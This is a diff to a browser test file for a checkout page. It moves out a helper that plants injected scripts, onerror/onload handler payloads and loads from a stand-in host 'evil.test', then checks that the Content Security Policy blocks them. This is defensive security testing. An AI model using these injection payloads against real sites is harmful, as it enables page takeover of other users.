@@ -4,7 +4,7 @@ import { texts } from '#contract/texts.ts';
 import type { Person } from '#test/harness.ts';
 import { samplePart } from '#test/samples.ts';
 import { cards, expectPaid, main, payWith, purchaseNow, toast } from './checkout.ts';
-import { hostile, injected, picture, startHostileShop, type HostileShop } from './hostile-shop.ts';
+import { hostile, injected, picture, plant, startHostileShop, type HostileShop } from './hostile-shop.ts';
 
 /** What people type here would take over the page of somebody else, if any page believed it. */
 let hostileShop: HostileShop;
@@ -230,26 +230,3 @@ test('the policy of every page stops what were to slip through', async () => {
   }
   await context.close();
 });
-
-/** Plants what an injection would; answers the directives that stopped it, or that something ran. */
-async function plant(page: Page): Promise<string[]> {
-  return page.evaluate(async () => {
-    const stopped = new Set<string>();
-    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => stopped.add(effectiveDirective));
-    const inline = document.createElement('script');
-    inline.textContent = 'window.planted = "inline script"';
-    document.body.append(inline);
-    const foreign = document.createElement('script');
-    foreign.src = 'http://evil.test/planted.js';
-    document.body.append(foreign);
-    document.body.insertAdjacentHTML(
-      'beforeend',
-      `<img src="/nothing-here.webp" onerror="window.planted = 'handler'"><svg onload="window.planted = 'svg'"></svg>
-       <img src="http://evil.test/pixel"><iframe src="http://evil.test/"></iframe>`,
-    );
-    await fetch('http://evil.test/').catch(() => undefined);
-    await new Promise((resolve) => setTimeout(resolve, 300));
-    const ran = (window as unknown as { planted?: string }).planted;
-    return ran === undefined ? [...stopped].toSorted() : [`ran: ${ran}`];
-  });
-}
